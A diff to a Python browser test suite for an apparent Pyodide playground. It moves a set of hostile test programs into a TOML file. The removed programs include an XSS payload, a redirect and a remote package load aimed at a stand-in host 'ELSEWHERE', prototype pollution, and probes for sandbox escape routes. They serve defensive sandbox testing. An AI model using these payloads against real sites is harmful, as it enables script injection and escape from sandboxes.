@@ -2,6 +2,7 @@
 
 import json
 import socket
+import tomllib
 from base64 import urlsafe_b64encode
 from collections.abc import Iterator
 from pathlib import Path
@@ -22,52 +23,7 @@ STATE = """(() => {
 })()"""
 SAME = "✓ Same output as on this page"
 FRIENDLY = "print('friendly')"
-TO_US = "from pyodide.ffi import to_js, create_proxy\nimport js\n"
-# Each begins as a stranger's link would; what the reader sees of it, if that is always the same.
-HOSTILE = {
-    "answers in our place": (
-        TO_US + "page = '<meta http-equiv=refresh content=\"0;url=http://ELSEWHERE/\">'\n"
-        "for number in range(60):\n"
-        "    answer = {'id': number, 'token': str(number), 'text': page, 'same': True}\n"
-        "    js.postMessage(to_js(answer, dict_converter=js.Object.fromEntries))",
-        "AttributeError: postMessage",
-    ),
-    "prints a page": (
-        ("print('<a style=position:fixed;inset:0>Log in</a>')\n"
-        "raise ValueError('<img src=http://ELSEWHERE/ onerror=alert(1)>')"),
-        "ValueError: <img src=",
-    ),
-    "sends what is no text": (
-        TO_US + "import sys\n"
-        "frame = sys._getframe()\n"
-        "while 'send' not in frame.f_locals:\n    frame = frame.f_back\n"
-        "frame.f_locals['send'](to_js({'same': True}, dict_converter=js.Object.fromEntries))",
-        "slice is not a function",
-    ),
-    "replaces what answers": (
-        TO_US + "import builtins, json\n"
-        "js.JSON.parse = js.JSON.stringify = create_proxy(lambda *_: None)\n"
-        "js.Object.prototype.token = '<b>'\n"
-        "json.dumps = lambda *_: '{\"same\": true, \"text\": [\"<b>\"], \"error\": {}}'\n"
-        "builtins.print = lambda *_: None",
-        "",
-    ),
-    "looks for a way out": (
-        TO_US + "doors = 'close dispatchEvent addEventListener onmessage fetch XMLHttpRequest'\n"
-        "doors += ' WebSocket EventSource Worker importScripts caches indexedDB navigator'\n"
-        "print('found', [each for each in doors.split() if hasattr(js, each)])\n"
-        "for way in (js.eval, js.Function.new, js.setTimeout):\n"
-        "    try:\n        way('postMessage({text: 1})')\n"
-        "    except Exception as error:\n        print(error)",
-        "found []\nEvalError",
-    ),
-    "loads": (
-        ("import pyodide_js\npyodide_js.loadPackage('http://ELSEWHERE/x-1-py3-none-any.whl')\n"
-        "from pyodide.http import open_url\nopen_url('http://ELSEWHERE/')"),
-        "XMLHttpRequest",
-    ),
-    "exits": ("import os\nprint('before')\nos._exit(3)", "before"),
-}  # fmt: skip
+HOSTILE = tomllib.loads(Path(__file__).with_name("hostile.toml").read_text("utf-8"))
 
 
 @pytest.fixture
@@ -160,7 +116,7 @@ def test_a_program_from_a_link_does_no_harm(
     browser: Browser, playground: str, elsewhere: socket.socket, name: str
 ) -> None:
     """The page stays, nobody else hears of it, and the next program runs as if nothing was."""
-    program, shown = HOSTILE[name]
+    program, shown = HOSTILE[name].values()
     there = "{}:{}".format(*elsewhere.getsockname())
     found = ran_shared(browser, program.replace("ELSEWHERE", there))
     assert shown in found["printed"] + found["status"]
